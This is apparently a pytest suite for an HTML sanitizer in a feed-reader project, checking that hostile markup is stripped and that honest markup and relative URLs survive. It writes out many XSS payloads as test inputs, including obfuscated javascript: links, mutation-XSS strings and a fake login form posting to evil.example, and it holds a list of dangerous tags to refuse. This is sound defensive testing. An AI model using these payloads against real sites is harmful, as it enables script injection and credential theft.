"""HTML sanitizing: what an attacker's markup turns into, and what a
publisher's honest markup keeps."""

from __future__ import annotations

import pytest

from lenta.exceptions import InvalidInputError
from lenta.parse.sanitize import DEFAULT_ALLOWED_TAGS
from lenta.parse.sanitize import REFUSED_TAGS
from lenta.parse.sanitize import HTMLSanitizer
from lenta.parse.sanitize import html_to_text
from lenta.parse.sanitize import parse_allowed_tags
from lenta.parse.sanitize import sanitize_html

BASE = "https://blog.example.com/posts/2024/hello.html"
REL = 'rel="noopener noreferrer nofollow"'


@pytest.fixture(scope="module")
def sanitizer() -> HTMLSanitizer:
    return HTMLSanitizer()


def clean(sanitizer: HTMLSanitizer, html: str, base_url: str | None = BASE) -> str:
    result = sanitizer.sanitize(html, base_url)
    assert result is not None
    return result


# --- XSS vectors ------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script><p>text</p>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>text</p>",
        "<p>text</p><script>document.write('<p>more</p>')</script>",
    ],
)
def test_script_elements_vanish_with_their_source(sanitizer: HTMLSanitizer, html: str) -> None:
    result = clean(sanitizer, html)
    assert "script" not in result.lower()
    assert "alert" not in result
    assert "document.write" not in result
    assert "<p>text</p>" in result


def test_split_script_tags_become_harmless_text(sanitizer: HTMLSanitizer) -> None:
    result = clean(sanitizer, "<scr<script>ipt>alert(1)</script><p>text</p>")
    assert result == "ipt&gt;alert(1)<p>text</p>"


@pytest.mark.parametrize(
    "html",
    [
        # mutation-XSS shapes that abuse foreign content and raw-text elements
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></math><p>t</p>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ],
)
def test_mutation_xss_shapes_leave_nothing_executable(sanitizer: HTMLSanitizer, html: str) -> None:
    result = sanitizer.sanitize(html, BASE) or ""
    assert "onerror" not in result
    assert "<style" not in result
    assert "<math" not in result and "<svg" not in result


def test_style_contents_are_dropped_not_shown(sanitizer: HTMLSanitizer) -> None:
    result = clean(sanitizer, "<style>body { display: none }</style><p>text</p>")
    assert result == "<p>text</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://x.example/a.png" onerror="alert(1)">',
        '<p onclick="alert(1)" onmouseover="alert(2)">text</p>',
        '<a href="https://x.example/" onfocus="alert(1)" autofocus>link</a>',
        '<body onload="alert(1)"><p>text</p></body>',
    ],
)
def test_event_handler_attributes_are_removed(sanitizer: HTMLSanitizer, html: str) -> None:
    result = clean(sanitizer, html)
    assert "alert" not in result
    assert " on" not in result


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#10;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_dangerous_link_schemes_lose_their_href(sanitizer: HTMLSanitizer, href: str) -> None:
    result = clean(sanitizer, f'<a href="{href}">click</a>')
    assert result == f"<a {REL}>click</a>"


def test_data_urls_are_not_image_sources(sanitizer: HTMLSanitizer) -> None:
    result = clean(sanitizer, '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="pic">')
    assert result == '<img alt="pic">'


def test_cite_urls_are_held_to_the_same_schemes(sanitizer: HTMLSanitizer) -> None:
    # ammonia itself does not treat cite as a URL; lenta does.
    result = clean(sanitizer, '<blockquote cite="javascript:alert(1)">quote</blockquote>')
    assert result == "<blockquote>quote</blockquote>"


def test_style_class_and_id_attributes_are_removed(sanitizer: HTMLSanitizer) -> None:
    html = '<p style="position:fixed;top:0" class="x" id="login">text</p>'
    assert clean(sanitizer, html) == "<p>text</p>"


@pytest.mark.parametrize(
    "html",
    [
        "<svg onload=alert(1)><title>icon</title></svg><p>text</p>",
        "<svg><script>alert(1)</script></svg><p>text</p>",
        "<math><mi>x</mi><annotation-xml><script>alert(1)</script></annotation-xml></math><p>text</p>",
        '<iframe src="https://evil.example/"></iframe><p>text</p>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>text</p>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>text</p>',
        '<base href="https://evil.example/"><p>text</p>',
        '<link rel="stylesheet" href="https://evil.example/x.css"><p>text</p>',
        '<object data="https://evil.example/x.swf">fallback</object><p>text</p>',
        '<embed src="https://evil.example/x.swf"><p>text</p>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>text</p>',
    ],
)
def test_foreign_and_embedding_elements_are_removed(sanitizer: HTMLSanitizer, html: str) -> None:
    result = clean(sanitizer, html)
    assert result.endswith("<p>text</p>")
    for needle in ("svg", "math", "iframe", "meta", "base", "link", "object", "embed", "alert", "evil"):
        assert needle not in result


def test_forms_and_controls_are_removed(sanitizer: HTMLSanitizer) -> None:
    html = (
        '<form action="https://evil.example/steal" method="post">'
        '<input type="password" name="pw"><textarea>t</textarea>'
        "<select><option>o</option></select>"
        '<button formaction="javascript:alert(1)">Log in</button></form><p>text</p>'
    )
    assert clean(sanitizer, html) == "<p>text</p>"


def test_comments_are_stripped(sanitizer: HTMLSanitizer) -> None:
    html = "<p>a<!-- secret --></p><!--[if IE]><script>alert(1)</script><![endif]-->"
    assert clean(sanitizer, html) == "<p>a</p>"


def test_unclosed_markup_is_closed(sanitizer: HTMLSanitizer) -> None:
    assert clean(sanitizer, "<p><b>bold <i>both") == "<p><b>bold <i>both</i></b></p>"


# --- relative URLs and links -------------------------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("image.png", "https://blog.example.com/posts/2024/image.png"),
        ("../img/a.png", "https://blog.example.com/posts/img/a.png"),
        ("/static/a.png", "https://blog.example.com/static/a.png"),
        ("//cdn.example.net/a.png", "https://cdn.example.net/a.png"),
        ("?page=2", "https://blog.example.com/posts/2024/hello.html?page=2"),
        ("https://other.example/a.png", "https://other.example/a.png"),
    ],
)
def test_relative_sources_resolve_against_the_base_url(sanitizer: HTMLSanitizer, url: str, expected: str) -> None:
    assert clean(sanitizer, f'<img src="{url}">') == f'<img src="{expected}">'


def test_relative_links_and_citations_resolve_too(sanitizer: HTMLSanitizer) -> None:
    html = '<a href="next.html">next</a><q cite="/sources#3">q</q>'
    assert clean(sanitizer, html) == (
        f'<a href="https://blog.example.com/posts/2024/next.html" {REL}>next</a>'
        '<q cite="https://blog.example.com/sources#3">q</q>'
    )


def test_every_relative_url_of_a_fragment_is_resolved_and_the_rest_kept_as_is(sanitizer: HTMLSanitizer) -> None:
    # URL attributes among others whose values hold "<", ">", "=" and quotes.
    html = (
        '<video poster="p.png" controls src="https://cdn.example.net/v.mp4"></video>'
        '<img alt="a<b> src=&quot;x&quot;" src="i.png?x=1&amp;y=2"><a href="">top</a>'
    )
    assert clean(sanitizer, html) == (
        '<video poster="https://blog.example.com/posts/2024/p.png" controls="" '
        'src="https://cdn.example.net/v.mp4"></video>'
        '<img alt="a&lt;b&gt; src=&quot;x&quot;" src="https://blog.example.com/posts/2024/i.png?x=1&amp;y=2">'
        f'<a href="https://blog.example.com/posts/2024/hello.html" {REL}>top</a>'
    )


def test_markup_shown_as_text_is_not_rewritten(sanitizer: HTMLSanitizer) -> None:
    # A post about HTML: its code samples keep their relative URLs (quotes
    # stay raw in text, so they look like attributes to a careless search).
    html = '<pre><code>&lt;img src="logo.png"&gt;</code></pre>a href="x" <a href="y">y</a>'
    assert clean(sanitizer, html) == (
        '<pre><code>&lt;img src="logo.png"&gt;</code></pre>a href="x" '
        f'<a href="https://blog.example.com/posts/2024/y" {REL}>y</a>'
    )


@pytest.mark.parametrize("base_url", [None, "", "javascript:alert(1)", "not a url"])
def test_relative_urls_are_dropped_without_a_usable_base(sanitizer: HTMLSanitizer, base_url: str | None) -> None:
    # Left relative they would point into lenta's own pages.
    html = '<a href="/logout">x</a><img src="a.png" alt="a"><a href="https://ok.example/">y</a>'
    assert clean(sanitizer, html, base_url) == (f'<a {REL}>x</a><img alt="a"><a href="https://ok.example/" {REL}>y</a>')


def test_links_get_noopener_noreferrer_nofollow_whatever_they_said(sanitizer: HTMLSanitizer) -> None:
    html = '<a href="https://x.example/" rel="opener" target="_blank">x</a>'
    assert clean(sanitizer, html) == f'<a href="https://x.example/" {REL}>x</a>'


def test_mailto_links_are_kept(sanitizer: HTMLSanitizer) -> None:
    html = '<a href="mailto:editor@example.com">mail</a>'
    assert clean(sanitizer, html) == f'<a href="mailto:editor@example.com" {REL}>mail</a>'


# --- honest markup -----------------------------------------------------------


def test_reader_markup_survives_unchanged(sanitizer: HTMLSanitizer) -> None:
    html = (
        "<h2>Title</h2>"
        "<p>Some <strong>strong</strong>, <em>emphasised</em>, <code>code</code> and "
        '<a href="https://example.org/" title="Example">a link</a>.</p>'
        "<blockquote><p>Quoted</p></blockquote>"
        "<ul><li>one</li><li>two</li></ul>"
        '<ol start="3"><li>three</li></ol>'
        "<pre><code>x = 1\n  y = 2</code></pre>"
        '<figure><img src="https://example.org/a.jpg" alt="A" width="640" height="480">'
        "<figcaption>Caption</figcaption></figure>"
        '<table><thead><tr><th colspan="2">H</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>'
        '<p><abbr title="HyperText Markup Language">HTML</abbr> '
        "H<sub>2</sub>O E=mc<sup>2</sup> <del>old</del> <s>gone</s> <u>u</u> <small>s</small>"
        " <b>b</b> <i>i</i> <q>q</q><br>end</p>"
        "<dl><dt>term</dt><dd>definition</dd></dl>"
    )
    expected = html.replace('title="Example">', f'title="Example" {REL}>')
    assert clean(sanitizer, html) == expected


def test_entities_and_text_are_preserved(sanitizer: HTMLSanitizer) -> None:
    html = "<p>AT&amp;T &lt;3 caf&eacute; — “quoted” 日本語</p>"
    assert clean(sanitizer, html) == "<p>AT&amp;T &lt;3 café — “quoted” 日本語</p>"


def test_unknown_tags_are_unwrapped_keeping_their_text(sanitizer: HTMLSanitizer) -> None:
    assert clean(sanitizer, "<custom-box><blink>hi</blink></custom-box>") == "hi"


def test_text_direction_and_language_are_kept(sanitizer: HTMLSanitizer) -> None:
    html = '<p dir="rtl" lang="ur">اردو</p>'
    assert clean(sanitizer, html) == html


@pytest.mark.parametrize("html", [None, "", "   \n", "<p> </p>", "<div>\n</div><br>", "<script>x</script>", "<!-- c -->"])
def test_nothing_visible_gives_none(sanitizer: HTMLSanitizer, html: str | None) -> None:
    assert sanitizer.sanitize(html, BASE) is None


def test_an_image_alone_is_content(sanitizer: HTMLSanitizer) -> None:
    assert sanitizer.sanitize('<p><img src="a.png"></p>', BASE) is not None


def test_a_custom_allowlist_limits_the_tags() -> None:
    sanitizer = HTMLSanitizer(parse_allowed_tags("<p> <a>"))
    html = '<p><b>bold</b> <a href="/x">x</a> <img src="/i.png"></p>'
    assert sanitizer.sanitize(html, BASE) == (f'<p>bold <a href="https://blog.example.com/x" {REL}>x</a> </p>')


def test_the_sanitizer_refuses_dangerous_tags_given_directly() -> None:
    with pytest.raises(InvalidInputError, match="<iframe>"):
        HTMLSanitizer({"p", "iframe"})


def test_sanitize_html_uses_the_default_allowlist() -> None:
    assert sanitize_html("<p>a<script>b</script></p>", None) == "<p>a</p>"


# --- the allowlist setting --------------------------------------------------


def test_the_default_allowlist_parses_and_is_safe() -> None:
    tags = parse_allowed_tags(DEFAULT_ALLOWED_TAGS)
    assert {"a", "p", "img", "blockquote", "table", "h2", "pre", "code"} <= tags
    assert not tags & REFUSED_TAGS


@pytest.mark.parametrize(
    "text",
    ["<a> <em> <p>", "<a>,<em>,<p>", "<A> <EM>  <P>", "<a><em><p>", "  <a>\n<em>, <p> ", "< a > <em> <p>"],
)
def test_allowlists_parse_with_any_separator_and_case(text: str) -> None:
    assert parse_allowed_tags(text) == frozenset({"a", "em", "p"})


def test_an_empty_allowlist_allows_nothing() -> None:
    assert parse_allowed_tags("") == frozenset()
    assert HTMLSanitizer(frozenset()).sanitize("<p><b>x</b></p>", BASE) == "x"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("<a", "near '<a'"),
        ("<a> <em", "near '<em'"),
        ("a em p", "near 'a em p'"),
        ("<a> <b!> <p>", "<b!> is not a valid HTML tag name"),
        ("<a> </em>", "</em> is not a valid HTML tag name"),
        ("<>", "<> is not a valid HTML tag name"),
        ("<a href hreflang>", "write <a> instead of <a href hreflang>"),
    ],
)
def test_junk_allowlists_are_rejected_clearly(text: str, message: str) -> None:
    with pytest.raises(InvalidInputError) as excinfo:
        parse_allowed_tags(text)
    assert message in str(excinfo.value)


@pytest.mark.parametrize(
    "tag",
    [
        "script", "style", "iframe", "object", "embed", "form", "input", "textarea", "button",
        "select", "option", "svg", "math", "base", "link", "meta", "frame", "frameset",
        "template", "noscript", "applet",
    ],
)  # fmt: skip
def test_dangerous_tags_are_refused_by_name(tag: str) -> None:
    with pytest.raises(InvalidInputError, match=f"<{tag}> cannot be allowed"):
        parse_allowed_tags(f"<p> <{tag.upper()}> <a>")


# --- plain text --------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("Tom &amp; Jerry", "Tom & Jerry"),
        ("AT&T <3 Q&A", "AT&T <3 Q&A"),
        ("<b>Bold</b> move", "Bold move"),
        ("<p>one</p><p>two</p>", "one two"),
        ("line<br>break", "line break"),
        ("caf&eacute;&nbsp;&#8212;&#x2603;", "café —☃"),
        ("  lots \n of\t space  ", "lots of space"),
        ("<script>alert(1)</script>safe<style>p{}</style>", "safe"),
        ("a <!-- comment --> b", "a b"),
        ("", ""),
        (None, ""),
    ],
)
def test_html_to_text(html: str | None, text: str) -> None:
    assert html_to_text(html) == text


# RFC 3986 §5.4 reference resolution examples, against the string-based
# resolver the sanitizer uses for relative URLs.
RFC3986_BASE = "http://a/b/c/d;p?q"
RFC3986_EXAMPLES = {
    "g": "http://a/b/c/g",
    "./g": "http://a/b/c/g",
    "g/": "http://a/b/c/g/",
    "/g": "http://a/g",
    "//g": "http://g",
    "?y": "http://a/b/c/d;p?y",
    "g?y": "http://a/b/c/g?y",
    "#s": "http://a/b/c/d;p?q#s",
    "g#s": "http://a/b/c/g#s",
    "g?y#s": "http://a/b/c/g?y#s",
    ";x": "http://a/b/c/;x",
    "g;x": "http://a/b/c/g;x",
    "": "http://a/b/c/d;p?q",
    ".": "http://a/b/c/",
    "./": "http://a/b/c/",
    "..": "http://a/b/",
    "../": "http://a/b/",
    "../g": "http://a/b/g",
    "../..": "http://a/",
    "../../": "http://a/",
    "../../g": "http://a/g",
    "../../../g": "http://a/g",
    "../../../../g": "http://a/g",
    "/./g": "http://a/g",
    "/../g": "http://a/g",
    "g.": "http://a/b/c/g.",
    ".g": "http://a/b/c/.g",
    "g..": "http://a/b/c/g..",
    "..g": "http://a/b/c/..g",
    "./../g": "http://a/b/g",
    "./g/.": "http://a/b/c/g/",
    "g/./h": "http://a/b/c/g/h",
    "g/../h": "http://a/b/c/h",
    "g;x=1/./y": "http://a/b/c/g;x=1/y",
    "g;x=1/../y": "http://a/b/c/y",
}


@pytest.mark.parametrize(("reference", "expected"), sorted(RFC3986_EXAMPLES.items()))
def test_relative_urls_resolve_as_rfc_3986_says(reference: str, expected: str) -> None:
    from lenta.parse.sanitize import _base_resolver

    assert _base_resolver(RFC3986_BASE)(reference) == expected


def test_a_line_break_opening_a_pre_survives_a_second_sanitizing() -> None:
    # A parse drops the newline right after <pre>: the output writes one back
    # so that a teaser or a re-sanitize keeps the line break (and the words apart).
    once = sanitize_html("<p>a</p><pre>\n\nb</pre>", None)
    assert once == "<p>a</p><pre>\n\nb</pre>"
    assert sanitize_html(once, None) == once
